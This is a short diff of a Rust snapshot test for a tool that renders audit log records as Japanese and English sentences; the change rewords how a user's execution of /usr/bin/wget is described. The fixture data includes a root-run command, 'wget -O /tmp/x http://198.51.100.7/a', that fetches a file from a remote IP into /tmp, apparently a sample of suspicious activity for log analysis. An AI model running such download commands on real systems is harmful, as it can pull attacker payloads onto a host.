@@ -62,8 +62,8 @@ fn later_records_of_an_act_know_what_earlier_ones_said() {
         .flat_map(|row| [Lang::Ja, Lang::En].map(|lang| normalizer.sentence(&batch, row, lang)))
         .collect();
     insta::assert_snapshot!(sentences.join("\n"), @r"
-    tanaka がこのホストで /usr/bin/wget からプログラムの実行（execve）を行った（鍵 susp_activity）（成功）
-    tanaka did on this host, from /usr/bin/wget, running a program (execve) (key susp_activity) (success)
+    tanaka がこのホストで /usr/bin/wget を実行した（execve）（鍵 susp_activity）（成功）
+    tanaka ran /usr/bin/wget on this host (execve) (key susp_activity) (success)
     tanaka がこのホストで root として実行した：wget -O /tmp/x http://198.51.100.7/a b#
     tanaka ran as root on this host: wget -O /tmp/x http://198.51.100.7/a b#
     tanaka の操作はこのホストの /root で行われた（/usr/bin/wget）
